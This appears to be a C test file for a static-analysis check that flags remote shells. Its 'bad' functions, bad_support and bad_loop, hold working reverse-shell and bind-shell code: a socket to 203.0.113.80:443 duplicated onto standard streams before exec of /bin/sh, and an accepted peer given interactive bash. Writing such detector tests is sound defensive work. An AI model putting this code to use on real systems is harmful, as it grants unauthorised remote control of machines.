#include <arpa/inet.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <sys/wait.h>
#include <unistd.h>

static int dial(const char *host, unsigned short port) {
    struct sockaddr_in to = {.sin_family = AF_INET, .sin_port = htons(port)};
    int fd = socket(AF_INET, SOCK_STREAM, 0);
    if (fd < 0 || inet_pton(AF_INET, host, &to.sin_addr) != 1)
        return -1;
    return connect(fd, (struct sockaddr *)&to, sizeof to) == 0 ? fd : -1;
}

int bad_support(void) {
    int fd = dial("203.0.113.80", 443);
    if (fd < 0)
        return -1;
    dup2(fd, 0);
    dup2(fd, 1);
    dup2(fd, 2);
    // expected-warning-re@+1 {{{{.*}}[vitrine: update/remote-shell]}}
    execl("/bin/sh", "sh", (char *)NULL);
    return -1;
}

/* The same by a loop, in a child. */
void bad_loop(int fd) {
    struct sockaddr_in from;
    socklen_t size = sizeof from;
    char *arguments[] = {"bash", "-i", NULL};
    int peer = accept(fd, (struct sockaddr *)&from, &size);
    if (peer < 0 || fork() != 0)
        return;
    for (int i = 0; i < 3; i++)
        dup2(peer, i);
    // expected-warning-re@+1 {{{{.*}}[vitrine: update/remote-shell]}}
    execve("/bin/bash", arguments, NULL);
}

/* A super server gives the peer the program that its configuration names. */
void good_super_server(int fd) {
    const char *program = getenv("SERVICE");
    int peer = accept(fd, NULL, NULL);
    if (peer < 0 || !program || fork() != 0)
        return;
    dup2(peer, 0);
    dup2(peer, 1);
    execl(program, program, (char *)NULL);
}

/* A shell whose output goes to a pipe. */
int good_pipe(char *out, size_t size) {
    int ends[2];
    if (pipe(ends) != 0)
        return -1;
    if (fork() == 0) {
        dup2(ends[1], 1);
        execl("/bin/sh", "sh", "-c", "df -h", (char *)NULL);
        _exit(127);
    }
    close(ends[1]);
    return (int)read(ends[0], out, size);
}

/* Two ends on one host. */
int good_pair(void) {
    int ends[2];
    if (socketpair(AF_UNIX, SOCK_STREAM, 0, ends) != 0)
        return -1;
    if (fork() == 0) {
        dup2(ends[1], 0);
        execl("/bin/sh", "sh", "/usr/share/agent/worker.sh", (char *)NULL);
        _exit(127);
    }
    return ends[0];
}
